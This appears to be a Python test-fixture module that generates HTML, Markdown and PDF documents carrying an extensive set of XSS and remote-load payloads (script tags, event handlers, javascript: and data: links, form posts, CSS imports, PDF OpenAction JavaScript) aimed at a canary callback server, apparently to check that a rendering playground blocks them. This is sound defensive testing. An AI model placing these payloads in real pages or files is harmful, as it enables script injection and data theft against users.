"""Documents for the playground: harmless ones of each kind, and hostile ones that try to run or to load something."""

from collections.abc import Iterable
from pathlib import Path

from shared.chat_types import Passage
from tests.small_index import write_index


def attacks(canary: str) -> str:
    """HTML that tries to run a script, or to call a server that counts its callers, in every way that it can."""
    call = f"fetch('{canary}/called'); window.attacked = true"
    return f"""
<script>{call}</script><script src="{canary}/script.js"></script>
<img src="x" onerror="{call}"><img src="{canary}/image.png"><img srcset="{canary}/srcset.png 1x">
<svg onload="{call}"><script>{call}</script><image href="{canary}/svg.png"/><a href="javascript:{call}">svg</a></svg>
<math><mtext><style><img src="x" onerror="{call}"></style></mtext></math>
<iframe src="{canary}/frame"></iframe><iframe srcdoc="<script>{call}</script>"></iframe>
<object data="{canary}/object"></object><embed src="{canary}/embed">
<form id="stolen" action="{canary}/form"><input name="key" autofocus onfocus="{call}"><button>Send</button></form>
<meta http-equiv="refresh" content="0; url={canary}/refresh"><base href="{canary}/">
<link rel="stylesheet" href="{canary}/style.css">
<style>@import "{canary}/import.css"; p {{ background: url({canary}/css) }}</style>
<p style="background: url({canary}/inline-css)" onmouseover="{call}">styled</p>
<video src="{canary}/video" poster="{canary}/poster" autoplay></video><audio src="{canary}/audio" autoplay></audio>
<a href="javascript:{call}">script</a> <a href="data:text/html,<script>{call}</script>">data</a>
<a href="{canary}/ping" ping="{canary}/pinged">ping</a> <div id="app" name="body">clobbers</div>
<template shadowrootmode="open"><img src="{canary}/shadow.png"></template>
<table background="{canary}/table.png"><tr><td>cell</td></tr></table><input type="image" src="{canary}/input.png">
"""


def markdown_attacks(canary: str) -> str:
    """The same in Markdown, beside its own ways."""
    call = f"fetch('{canary}/markdown')"
    return f"""
[script](javascript:{call}) [data](data:text/html,<script>{call}</script>) [vb](vbscript:x) <javascript:{call}>
![pixel]({canary}/pixel.png) ![x]({canary}/title.png "a\\" onerror={call}")
[ref]: javascript:{call}
[by reference][ref] `<img src=x onerror={call}>`
```html" onmouseover="{call}
<script>{call}</script>
```
{attacks(canary)}
"""


def pdf(*pages: str, canary: str = "") -> bytes:
    """A PDF file with these texts; hostile if there is a server to call."""
    hostile = ""
    if canary:
        script = f"app.launchURL('{canary}/pdf-script'); this.submitForm('{canary}/pdf-form')"
        hostile = f" /OpenAction << /S /JavaScript /JS ({script.replace('(', '[').replace(')', ']')}) >>"
    kids = " ".join(f"{4 + 2 * number} 0 R" for number in range(len(pages)))
    bodies = [
        f"<< /Type /Catalog /Pages 2 0 R{hostile} >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI ({canary}/pdf-link) >> >>"
    for number, text in enumerate(pages):
        drawn = f"BT /F1 12 Tf 50 700 Td ({text}) Tj ET"
        bodies += [
            (
                f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents {5 + 2 * number} 0 R "
                f"/Resources << /Font << /F1 3 0 R >> >>{f' /Annots [{link}]' if canary else ''} >>"
            ),
            f"<< /Length {len(drawn)} >>\nstream\n{drawn}\nendstream",
        ]
    data, places = b"%PDF-1.7\n", list[int]()
    for number, body in enumerate(bodies, 1):
        places.append(len(data))
        data += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(bodies) + 1
    trailer = f"trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{len(data)}\n%%EOF"
    return data + f"xref\n0 {size}\n0000000000 65535 f \n{table}{trailer}".encode()


async def write(folder: Path, files: dict[str, bytes], passages: Iterable[Passage]) -> Path:
    """Write an app's data: the documents, and an index that has these passages."""
    for name, data in files.items():
        path = folder / "content" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    await write_index(folder, passages)
    return folder
